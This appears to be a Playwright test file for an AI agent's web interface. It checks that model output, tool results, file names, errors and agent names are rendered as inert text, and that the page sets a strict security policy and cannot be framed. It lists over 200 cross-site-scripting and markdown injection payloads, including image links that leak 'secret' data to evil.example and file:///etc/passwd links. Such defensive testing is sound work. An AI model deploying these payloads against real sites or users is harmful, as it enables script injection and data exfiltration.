"""Injection attacks on the page: text of models, tools, files and errors is shown as text and never executed."""

import re
from collections.abc import AsyncGenerator
from urllib.parse import urlsplit

import pytest
from page_fixture import BrowserPage, OpenPageDaemon, PageDaemon
from playwright.async_api import Route

from retinue.testing.replies import http_error, text_reply, tool_call_reply

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</div></article></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png 1x'>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    "<picture><source srcset='https://evil.example/a.png'><img src=x onerror=alert(1)></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
    "<svg><image href='https://evil.example/x.png'></image></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='https://evil.example/x.swf'></object>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.pdf'>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x archive='https://evil.example/x.jar'></applet>",
    "<base href='https://evil.example/'>",
    "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<link rel=dns-prefetch href='https://evil.example'>",
    "<link rel=import href='https://evil.example/x.html'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<style>.approvals{display:none}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style='content:url(https://evil.example/x)'>x</p>",
    "<form action='https://evil.example/'><input name=a><button>Send</button></form>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src='https://evil.example/x.png' onerror=alert(1)>",
    "<input name=attributes><input name=getElementById>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button onclick=alert(1) autofocus onfocus=alert(1)>Allow once</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src='https://evil.example/x.mp4' autoplay onerror=alert(1)></video>",
    "<video poster='https://evil.example/x.png'></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src='https://evil.example/x.mp3' autoplay></audio>",
    "<audio src=x onerror=alert(1)></audio>",
    "<track src='https://evil.example/x.vtt'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<table background='https://evil.example/x.png'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
    "<a id=approvals name=approvals href=x>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<isindex action='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'https://evil.example/'>]>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot><img src=x onerror=alert(1)></slot>",
    "<dialog open><button autofocus onfocus=alert(1)>x</button></dialog>",
    "<portal src='https://evil.example/'></portal>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<div data-test=approval class=approvals id=approvals>Allow once</div>",
    "<div tabindex=0 onfocusin=alert(1)>x</div>",
    "<p draggable=true ondragstart=alert(1)>x</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "`-alert(1)-`",
]
MARKDOWN_PAYLOADS = [
    "![x](https://evil.example/pixel.png)",
    '![x](https://evil.example/pixel.png?data=secret "title")',
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](https://evil.example/x.png)',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "[x](https://evil.example/ 'onmouseover=alert(1)')",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert%281%29)",
    "[x](javascript://%0aalert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](//evil.example/path)",
    "[x](\\\\evil.example\\path)",
    "[x](/api/stop)",
    "[x](#/s/other)",
    "[x](https://good.example@evil.example/)",
    "[https://good.example](https://evil.example/)",
    '[https://good.example/](https://evil.example/ "https://good.example/")',
    "<https://evil.example/?q=secret>",
    "https://evil.example/?q=secret",
    "www.evil.example/secret",
    "mail@evil.example",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x][1]\n\n[1]: <javascript:alert(1)> "x"',
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"\n```',
    "```svg\n<svg onload=alert(1)></svg>\n```",
    "```diff\n+<img src=x onerror=alert(1)>\n-<script>alert(1)</script>\n```",
    "~~~\n<script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "``` <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>\n> > <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>\n===",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    "[a](b)<img src=x onerror=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "~~<svg onload=alert(1)>~~",
    "\\<img src=x onerror=alert(1)>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    '<a href="https://evil.example">\n\n**x**\n\n</a>',
    "$$\\href{javascript:alert(1)}{x}$$",
    "<details>\n<summary>x</summary>\n\n![x](https://evil.example/y.png)\n\n</details>",
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:javascript:alert(1)",
    "about:blank",
    "chrome://settings",
    "ws://evil.example/",
    "ftp://evil.example/x",
    "tel:123",
    "intent://evil.example#Intent;end",
    "jar:https://evil.example!/x",
    "feed:javascript:alert(1)",
]
LINK_FORMS = ["[x]({})", "![x]({})", "<{}>", "[x][z]\n\n[z]: {}"]
UNICODE_PAYLOADS = [
    "\u202e<tpircs>)1(trela",
    "\u2066[x](javascript:alert(1))\u2069",
    "[exa\u200bmple.org](https://evil.example/)",
    "https://ex\u0430mple.org/",
    "[x](https://evil\u3002example/)",
    "[x](https://evil.example\u2044.good.example/)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img\u00a0src=x\u00a0onerror=alert(1)>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<img src=x onerror\u2028=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<\U000e0073cript>alert(1)</script>",
    "[x](java\u200bscript:alert(1))",
    "[x](\u0130avascript:alert(1))",
    "\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007",
]
PAYLOADS = [
    *HTML_PAYLOADS,
    *MARKDOWN_PAYLOADS,
    *(form.format(scheme) for scheme in SCHEMES for form in LINK_FORMS),
    *UNICODE_PAYLOADS,
]

# fmt: off
MARKDOWN_TAGS = [
    "p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td", "hr", "a", "span",
]
# fmt: on
ALLOWED_TAGS = {*MARKDOWN_TAGS, "div", "button"}
ALLOWED_ATTRIBUTES = {"href", "class", "target", "rel", "align", "start", "type", "data-test"}
SCROLL = """async (log, pages) => {
    const nextFrame = () => new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    for (const details of log.querySelectorAll("details")) details.open = true;
    await nextFrame();
    log.scrollTop += pages * log.clientHeight;
    await nextFrame();
    return log.scrollTop;
}"""
DESCRIBE_ELEMENTS = """elements => elements.map(element => ({
    tag: element.tagName.toLowerCase(),
    attributes: Object.fromEntries([...element.attributes].map(attribute => [attribute.name, attribute.value])),
    text: element.textContent,
}))"""


def test_there_are_at_least_200_payloads():
    assert len(set(PAYLOADS)) >= 200


def join_payloads(*payloads: str) -> str:
    """Join texts with blank lines between them."""
    return "\n\n".join(payloads)


async def scroll_through_and_check(window: BrowserPage) -> set[str]:
    """Scroll from the end to the beginning with every fold open, check every element and link, and return the ids of the entries shown."""
    log, links, shown = window("conversation"), 0, set[str]()
    scroll_top = await log.evaluate(SCROLL, 1e9)
    while scroll_top or not await log.locator(".earlier").filter(has_text="Started").count():
        shown |= set(
            await log.locator("[data-entry]").evaluate_all(
                "elements => elements.map(element => element.dataset.entry)"
            )
        )
        for element in await log.locator(".prose *").evaluate_all(DESCRIBE_ELEMENTS):
            assert element["tag"] in ALLOWED_TAGS, element
            assert set(element["attributes"]) <= ALLOWED_ATTRIBUTES, element
            assert element["tag"] != "button" or element["attributes"]["class"] == "copy-code", element
            if element["tag"] == "a":
                links += 1
                check_link_target(element["attributes"]["href"], element["text"], element["attributes"])
        scroll_top = await log.evaluate(SCROLL, -0.5)
    assert links
    return shown


def check_link_target(href: str, text: str, attributes: dict[str, str]) -> None:
    parts = urlsplit(href)
    assert parts.scheme in ("http", "https", "mailto"), href
    assert (parts.hostname or parts.path) in text, (href, text)
    assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")


async def test_payloads_in_messages_and_tool_results_are_shown_as_text(daemon: PageDaemon):
    """Shows: U06, U07."""
    turns = [tool_call_reply(("echo", {"words": payload}), text=payload, piece=64) for payload in PAYLOADS]
    task = daemon.script_task("Say everything bad.", *turns, text_reply("That was all of it."))
    session = await daemon.create_session()
    async with daemon.open_page(1440, 4000) as window:
        await window.open_session(session["session_id"])
        await window.send_message(task)
        await window.expect(window("said-agent").locator(".prose").last).to_have_text("That was all of it.")
        shown = await scroll_through_and_check(window)
        await window.expect("approvals").to_have_count(0)
        assert window.page.url.startswith(window.base)
        assert len(window.page.context.pages) == 1
    entries = await daemon.call_api("GET", f"/sessions/{session['session_id']}/entries")
    assert sum(entry["kind"] == "tool_result" and entry["ok"] for entry in entries) == len(PAYLOADS)
    displayed = [
        entry
        for entry in entries
        if entry["kind"] == "tool_call" or (entry["kind"] == "message" and entry["text"].strip())
    ]
    assert {entry["id"] for entry in displayed} == shown


@pytest.fixture(scope="module")
async def daemon(module_daemon: OpenPageDaemon) -> AsyncGenerator[PageDaemon]:
    """A daemon with a tool that returns its argument, and an agent whose file is hostile."""
    async with module_daemon() as daemon:
        (daemon.folder / "echoes.py").write_text(ECHO_SOURCE)
        daemon.write_config(tools=["held:hold", "held:tell", "echoes:echo"], limits={"identical_calls": 1000})
        daemon.write_agent(
            "mimic",
            "display_name: <img src=x onerror=alert(1)>\n"
            "description: '<script>alert(1)</script>![x](https://evil.example/x.png)'\n",
            "You mimic.",
        )
        await daemon.start()
        yield daemon


ECHO_SOURCE = '''
from retinue import tool

@tool(effect="read")
async def echo(words: str) -> str:
    """Returns its argument."""
    return words
'''
NAMES = [each for each in PAYLOADS if each.isprintable() and len(each) < 200][::14]


async def test_payloads_in_names_of_sessions_and_agents_are_shown_as_text(daemon: PageDaemon):
    """Shows: U06."""
    session = await daemon.create_session("mimic")
    path = f"/sessions/{session['session_id']}"
    async with daemon.open_page() as window:
        await window.expect("pick-agent", agent="mimic").to_have_count(1)
        await window("new-session").click()
        await window.expect("new-with", agent="mimic").to_contain_text("<script>alert(1)</script>")
        await window.page.keyboard.press("Escape")
        await window.open_session(session["session_id"])
        assert len(NAMES) > 10
        for name in NAMES:
            await daemon.call_api("PATCH", path, {"name": name})
            await window.expect("title").to_have_text(name)
            title = window("session-row", session=session["session_id"]).locator(".session-title")
            await window.expect(title).to_have_text(name)
        await window.click_menu("clear")
        await window.expect("clear-dialog").to_contain_text(NAMES[-1])
        await window.page.keyboard.press("Escape")
        await window("search").fill("<img src=x onerror=alert(1)>")
        await window.expect("no-matches").to_contain_text("<img src=x onerror=alert(1)>")
        await window("search").fill("")
        await window.click_menu("delete")
        await window.expect("delete-dialog").to_contain_text(NAMES[-1])
        await window("delete-yes").click()
        await window.expect(window("toast").last).to_contain_text(NAMES[-1])


async def test_payloads_in_errors_are_shown_as_text(daemon: PageDaemon):
    """Shows: U06."""
    session = await daemon.create_session()
    payloads = HTML_PAYLOADS[:60:6]
    async with daemon.open_page() as window:
        await window.open_session(session["session_id"])
        for number, payload in enumerate(payloads):
            task = daemon.script_task(f"Fail in way {number}.", http_error(400, f"no: {payload}"))
            await window.send_message(task)
            await window.expect("run-ended", status="failed").to_have_count(number + 1)
            await window.expect(window("run-ended").last).to_contain_text(payload.split("\n")[0][:20])
        await window("open-runs").click()
        await window.expect(window("run").first).to_be_visible()


async def test_payloads_in_file_names_and_arguments_are_shown_as_text_in_approvals(daemon: PageDaemon):
    """Shows: U06, U09."""
    session = await daemon.create_session()
    names = ["<img src=x onerror=alert(1)>.txt", "[x](javascript:alert(1)).md", "'\"><svg onload=alert(1)>"]
    async with daemon.open_page() as window:
        await window.open_session(session["session_id"])
        for number, name in enumerate(names):
            task = daemon.script_task(
                f"Write name {number}.",
                tool_call_reply(("write", {"path": name, "content": join_payloads(*HTML_PAYLOADS[:20])})),
                tool_call_reply(("glob", {"pattern": "**/*"})),
                text_reply(f"`{name}`"),
            )
            await window.send_message(task)
            await window.expect("approval-resource").to_contain_text(name)
            await window.expect(
                window("approvals").locator("img, script, iframe, a[href], form, style")
            ).to_have_count(0)
            await window("deny" if number else "allow").click()
            await window.expect("approvals").to_have_count(0)
            await window.expect(window("said-agent").locator(".prose")).to_have_count(number + 1)
        (daemon.folder / names[0]).unlink(missing_ok=True)


@pytest.mark.parametrize(
    "hash",
    [
        "#/s/<img src=x onerror=alert(1)>",
        "#/new/<script>alert(1)<~script>",
        "#/s/..%2F..%2Fapi%2Fstop",
        "#/s/%E0%A4%A",
        "#javascript:alert(1)",
    ],
)
async def test_a_hostile_address_does_not_break_the_page(daemon: PageDaemon, hash: str):  # noqa: A002
    async with daemon.open_page() as window:
        await window.page.evaluate("hash => { location.hash = hash }", hash)
        await window.expect(window.page.locator("main")).to_be_visible()
        await window.expect("sidebar").to_be_visible()
        await window.page.reload()
        await window.expect("sidebar").to_be_visible()


async def test_the_page_cannot_be_framed(daemon: PageDaemon):
    """Shows: U08."""
    link = (await daemon.call_api("POST", "/links"))["url"]
    context = await daemon.browser.new_context()
    page = await context.new_page()
    response = await page.goto(link)
    assert response is not None
    headers = response.headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "default-src 'none'" in headers["content-security-policy"]
    assert not re.search("unsafe|http:|https:|\\*", headers["content-security-policy"])
    assert headers["x-frame-options"] == "DENY"
    frames = f"<iframe src='{daemon.base}/' id=inner></iframe>"

    async def serve_frame(route: Route) -> None:
        await route.fulfill(body=frames, content_type="text/html")

    await page.route("http://framer.example/", serve_frame)
    await page.goto("http://framer.example/")
    inner = page.frames[1]
    assert not inner.url.startswith(daemon.base)
    assert await inner.locator("[data-test]").count() == 0
    await context.close()
